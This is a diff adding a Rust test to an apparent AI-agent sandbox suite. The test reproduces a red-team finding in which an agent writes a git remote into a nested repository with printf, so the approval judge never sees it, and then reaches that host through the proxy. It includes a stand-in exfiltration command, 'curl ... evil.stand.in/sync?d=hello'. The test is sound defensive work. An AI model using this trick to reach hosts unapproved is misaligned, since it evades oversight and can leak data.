@@ -4725,3 +4725,30 @@ fn with_no_box_no_spelling_reads_what_the_box_hides() {
     let _ = person.kill();
     let _ = person.wait();
 }
+
+// ---- fix5-places: places the agent can reach that widened the box (rt5 B1, B6, B10, B11, A10) ----
+
+/// rt5 B1: a box makes a repository inside the workspace and writes its remote (`printf >>`
+/// into `sub/.git/config`, no `git remote add` for the judge to see); the next command,
+/// started in `sub`, reaches that host unasked through the proxy. Now a nested repository's
+/// remotes are asked about like any other host (none can answer here: refused), and nothing
+/// reaches the host.
+#[test]
+fn a_nested_repository_the_box_made_names_no_host_unasked() {
+    let Some(w) = world() else { return };
+    let host = StandIn::start();
+    host.file("sync", b"ok\n");
+    let w = w.git().through(&[("evil.stand.in", &host)], serde_json::json!({}));
+    let out = w.script(
+        "set -e\ngit init -q sub\nprintf '[remote \"origin\"]\\n\\turl = http://evil.stand.in/x.git\\n' >> sub/.git/config\n\
+         cp README sub/data.txt\n",
+    );
+    succeeded(&out, "a nested repository made in the box");
+    let out =
+        w.command(&["-c", "curl -fsS http://evil.stand.in/sync?d=hello"]).current_dir(w.path("sub")).output().unwrap();
+    assert!(!out.status.success(), "the box's remote was reached: {}", text(&out.stdout));
+    assert!(text(&out.stderr).contains("evil.stand.in"), "{}", text(&out.stderr));
+    assert!(host.requests().is_empty(), "the host got: {:?}", host.requests());
+    // The workspace's own remote (a real project's) is still reached unasked: see
+    // `the_projects_git_remote_is_reached_unasked`.
+}
